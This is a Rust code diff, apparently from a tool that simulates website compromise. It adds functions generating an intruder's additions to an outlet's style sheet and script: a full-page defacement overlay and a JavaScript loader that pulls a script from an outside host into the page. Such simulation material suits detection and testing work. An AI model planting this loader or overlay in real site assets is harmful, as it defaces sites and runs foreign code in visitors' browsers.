@@ -1,5 +1,6 @@
-//! The style sheet and the script of an outlet.
+//! The style sheet and the script of an outlet, and what an intruder appends to them.
 
+use crate::attack::{COVER_PATH, STRANGER};
 use crate::roster::Identity;
 
 /// The style sheet.
@@ -27,5 +28,19 @@ pub(crate) fn script(identity: &Identity) -> String {
     format!(
         "(function(){{'use strict';var clock=document.querySelector('.{p}-clock');if(!clock){{return;}}\n\
          setInterval(function(){{clock.textContent=new Date().toTimeString().slice(0,8);}},1000);}})();\n"
+    )
+}
+
+/// What an intruder appends to the style sheet: a picture over the whole page.
+pub(crate) fn painted() -> String {
+    format!(
+        "body::before{{content:\"\";position:fixed;inset:0;z-index:2147483647;background:#000 url({COVER_PATH}) center/contain no-repeat}}\n"
+    )
+}
+
+/// What an intruder appends to the script: a loader.
+pub(crate) fn planted() -> String {
+    format!(
+        "(function(){{var s=document.createElement('script');s.src='https://{STRANGER}/j/42.js';document.head.appendChild(s);}})();\n"
     )
 }
